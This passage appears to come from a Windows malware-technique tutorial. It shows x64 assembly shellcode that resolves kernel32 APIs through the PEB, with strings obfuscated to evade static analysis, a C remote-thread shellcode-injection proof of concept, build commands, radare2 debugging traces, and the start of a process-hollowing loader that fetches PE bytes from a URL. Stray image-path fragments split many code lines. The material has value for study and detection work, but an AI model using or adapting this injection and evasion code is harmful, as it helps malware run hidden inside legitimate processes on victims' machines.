xor rax, rax            ; Setup Counter for resolving the API Address after finding the name stringmov rdx, rsp            ; RDX = Address of API Name String to match on the Stack
push rcx                ; push the string length counter to stack
mov rcx,[rsp]          ; reset the string length counter from the stack
xor rdi,rdi             ; Clear RDI for setting up string name retrieval
mov edi, [r11+rax*4]    ; EDI = RVA NameString = [&NamePointerTable + (Counter * 4)]
add rdi, r8             ; RDI = &NameString    = RVA NameString + &kernel32.dll
mov rsi, rdx            ; RSI = Address of API Name String to match on the Stack  (reset to start of string)
repe cmpsb              ; Compare strings at RDI & RSI
je resolveaddr          ; If match then we found the API string. Now we need to find the Address of the API
inc rax
jmp short loop

; Find the address of GetProcAddress by using the last value of the Counter
pop rcx                 ; remove string length counter from top of stack
mov ax, [r12+rax*2]     ; RAX = [&OrdinalTable + (Counter*2)] = ordinalNumber of kernel32.<API>
mov eax, [r10+rax*4]    ; RAX = RVA API = [&AddressTable + API OrdinalNumber]
add rax, r8             ; RAX = Kernel32.<API> = RVA kernel32.<API> + kernel32.dll BaseAddress
push rbx                ; place the return address from the api string call back on the top of the stack
ret                     ; return to API caller

apis:                   ; API Names to resolve addresses
; WinExec | String length : 7
xor rcx, rcx
add cl, 0x7                 ; String length for compare string
mov rax, 0x9C9A87BA9196A80F ;not 0x9C9A87BA9196A80F = 0xF0,WinExec
not rax ;mov rax, 0x636578456e6957F0 ; cexEniW,0xF0 : 636578456e6957F0 - Did Not to avoid WinExec returning from strings static analysis
shr rax, 0x8                ; xEcoll,0xFFFF --> 0x0000,xEcoll
push rax
push rcx                    ; push the string length counter to stack
call getapiaddr             ; Get the address of the API from Kernel32.dll ExportTable
mov r14, rax                ; R14 = Kernel32.WinExec Address

; UINT WinExec(
;   LPCSTR lpCmdLine,=> RCX = "calc.exe",0x0
;   UINT   uCmdShow      => RDX = 0x1 = SW_SHOWNORMAL
; );
xor rcx, rcx
mul rcx                     ; RAX & RDX & RCX = 0x0
; calc.exe | String length : 8
push rax                    ; Null terminate string on stack
mov rax, 0x9A879AD19C939E9C ; not 0x9A879AD19C939E9C = "calc.exe"
not rax
;mov rax, 0x6578652e636c6163 ; exe.clac : 6578652e636c6163
push rax                    ; RSP = "calc.exe",0x0
mov rcx, rsp                ; RCX = "calc.exe",0x0
inc rdx                     ; RDX = 0x1 = SW_SHOWNORMAL
sub rsp, 0x20               ; WinExec clobbers first 0x20 bytes of stack (Overwrites our command string when proxied to CreatProcessA)call r14                    ; Call WinExec("calc.exe", SW_HIDE)
push r15

Also note that, by this same system, we can load any API reference we want:

; Maybe playing with SuspendThread(GetCurrentThread()); could be interesting :)
; Get Sleep to r15 | String length : 10
xor rcx, rcx
add cl,0x5 ; size = 14
mov rax, 0x7065656C53FFFFFF; dae, fffff
shr rax, 0x18 ; F's to 0's. FF FF = 2 bytes = 16 bits = 0xF bits
push rax
push rcx
call getapiaddr
mov r15, rax
mov rcx, 0xFFFFFFFFFFFFFFFF ; infinite = 00000000FFFFFFFF
shr rcx, 0x18
callr15

And we can compile that into an object by using NASM. Then we can use any script or regex we want to extract the shellcode:

nasm.exe -fwin64 .\resolvecalc.asm
objdump.exe -d .\resolvecalc.obj | python .\

Where can be found here

And if what we want is to generate a standalone executable from it we can use:

gcc.exe .\resolvecalc.obj -o rcalc.exe -mconsole (or -mwindows etc)

Find more compiler flags here

The final shellcode injection PoC will look like this:

#include "Windows.h"

int main(int argc, char *argv[])unsigned char shellcode[] =
    HANDLE processHandle;
    HANDLE remoteThread;
    PVOID remoteBuffer;
    processHandle = OpenProcess(PROCESS_ALL_ACCESS, FALSE, (DWORD) 10168);
    int id = 0 ;
    remoteBuffer = VirtualAllocEx(processHandle, NULL, sizeof shellcode, (MEM_RESERVE | MEM_COMMIT), PAGE_EXECUTE_READWRITE);
    WriteProcessMemory(processHandle, remoteBuffer, shellcode, sizeof shellcode, NULL);
    remoteThread = CreateRemoteThread(processHandle, NULL, 100,(LPTHREAD_START_ROUTINE)remoteBuffer, NULL, 0, NULL);

    return 0;

When analysing it in radare2, the following should trigger an alert: s1 An OpenProcess… OK but also a reference to a strange position:


As we see, the shellcode can be examined very easily in radare2/Cutter/Iaito!!

And if we look at it closely, we can easily detect a string being loaded using the registers/stack:


The process is similar from the debugger point of view:

 0x0040156d      e8ee010000     call sym.__main
|           0x00401572      488d45d0       lea rax, [var_30h]
|           0x00401576      488d158b2a00.  lea rdx, str.A_AWH1         ; 0x404008 ; "A_AWH1\xffH\xf7\xe7eH\x8bX`H\x8b[\x18H\x8b[ H\x8b\x1bH\x8b\x1bH\x8b[ I\x89\u060b[<L\x01\xc3H1\xc9f\x81\xc1\xff\x88H\xc1\xe9\b\x8b\x14\vL\x01\xc2M1\xd2D\x8bR\x1cM\x01\xc2M1\xdbD\x8bZ M\x01\xc3M1\xe4D\x8bb$M\x01\xc4\xeb2[YH1\xc0H\x89\xe2QH\x8b\f$H1\xffA\x8b<\x83L\x01\xc7H\x89\xd6\xf3\xa6t\x05H\xff\xc0\xeb\xe6YfA\x8b\x04DA\x8b\x04\x82L\x01\xc0S\xc3H1\u0240\xc1\aH\xb8\x0f\xa8\x96\x91\xba\x87\x9a\x9cH\xf7\xd0H\xc1\xe8\bPQ\xe8\xb0\xff\xff\xffI\x89\xc6H1\xc9H\xf7\xe1PH\xb8\x9c\x9e\x93\x9c\u045a\x87\x9aH\xf7\xd0PH\x89\xe1H\xff\xc2H\x83\xec A\xff\xd6AW\xc3"
|           0x0040157d      b9d5000000     mov ecx, 0xd5               ; 213
|           0x00401582      4989c8         mov r8, rcx
|           0x00401585      4889c1         mov rcx, rax

We can also inspect the shellcode:

[0x00401550]> pd @ str.A_AWH1
            ;-- str.A_AWH1:
            ; DATA XREF from dbg.main @0x401576
            0x00404008     .string "A_AWH1" ; len=7
            0x0040400f      48f7e7         mul rdi
            0x00404012      65488b5860     mov rbx, qword gs:[rax + 0x60]
            0x00404017      488b5b18       mov rbx, qword [rbx + 0x18]
            0x0040401b      488b5b20       mov rbx, qword [rbx + 0x20]
            0x0040401f      488b1b         mov rbx, qword [rbx]
            0x00404022      488b1b         mov rbx, qword [rbx]
            0x00404025      488b5b20       mov rbx, qword [rbx + 0x20]
            0x00404029  ~   4989d8         mov r8, rbx
            ;-- str.__L:
            0x0040402b     .string "\xd8\x8b[<L" ; len=6
            0x00404031      c3             ret
            0x00404032      4831c9         xor rcx, rcx

And we can move to debug the host process, note the address after the VirtualAllocEx and set breakpoints in it to continue the execution:

(5668) Created thread 6048 (start @ 00007FFE1F4DC940) (teb @ 000000A37A525000)
(5668) Created thread 5432 (start @ 000001A566040000) (teb @ 000000A37A527000)
hit breakpoint at: 0x1a566040000
[0x1a566040000]> pd 10;-- rax:
            ;-- rdx:
            ;-- r9:
            ;-- rip:
            0x1a566040000 b    005f41         add byte [rdi + 0x41], bl
            0x1a566040003      57             push rdi
wa nop

We will see the shellcode being written and the execution being started there:

[0x1a566040001]> ds
[0x1a566040001]> pd 10
            0x1a566040001      5f             pop rdi
            ;-- rip:
            0x1a566040002      4157           push r15And after some steps, we will see the KERNEL32 being resolved:

            0x1a56604001d      488b5b20       mov rbx, qword [rbx + 0x20]
            ;-- rip:
            0x1a566040021 b    4989d8         mov r8, rbx
            0x1a566040024      8b5b3c         mov ebx, dword [rbx + 0x3c]

Examining the memory after the pertinent call, we will see the base address in rax:

[0x1a566040001]> dr rbx
0x00007ffe1e450000 - 0x00007ffe1e451000 - usr     4K s r-- IMAGE    KERNEL32.DLL ? ; rbx
0x00007ffe1e451000 - 0x00007ffe1e4d0000 - usr   508K s r-x IMAGE    KERNEL32.DLL | .text ? ; map.IMAGE____KERNEL32.DLL__.text.r_x
[0x1a566040001]> pxw @ 0x7ffe1e450000
0x7ffe1e450000  0x00905a4d 0x00000003 0x00000004 0x0000ffff  MZ..............
0x7ffe1e450010  0x000000b8 0x00000000 0x00000040 0x00000000  ........@.......
0x7ffe1e450020  0x00000000 0x00000000 0x00000000 0x00000000  ................

And after then, we will see the string being decoded and pushed in the stack:

            0x1a566040094      48b80fa89691.  movabs rax, 0x9c9a87ba9196a80f
            0x1a56604009e      48f7d0         not rax
            0x1a5660400a1      48c1e808       shr rax, 8
            0x1a5660400a5      50             push rax
[0x1a566040001]> dc
hitbreakpoint at: 0x1a5660400a6
[0x1a5660400a6]> pxw @ rsp
0xa37a77fb40  0x456e6957 0x00636578 0x00000000 0x00000000  WinExec.........
0xa37a77fb50  0x00000000 0x00000000 0x00000000 0x00000000................

Process Hollowing

Process hollowing follows a similar philosophy as what we have previously seen. Instead of mapping an executable into a remote process that is already RUNNING, the attacker CREATES a process in a suspended state, deletes its content, writes the malicious content into it, sets the entry point to the malicious code’s entry point and resumes the execution from there. It basically creates a process, “hollows it” and then substitutes its content by of the malware, again forcing a legitimate process to run evil code. Usually you’ll see a malware abusing processes such as svchost.exe, explorer.exe and the like…

Get file byes from URL

So one of the strategies used by common malware when implementing process hollowing or more elaborated but similar techniques is to drop the initial stage of the malware on the system as an simpler program that will get the real malware from some url, for example load it in memory (ram) and then implement process hollowing writting and running the retrieved malware directly into a legitimate process withouth having that malicious code touching disk.

The full code for the following example can be found here

This can be tested locally by using python to implement a simple web server:

python3 -m http.server 8080An example of a function getting those PE bytes from an url can be found here:

LVOID GetFileContentFromUrl(const LPSTR fileUrl)
    //Download from
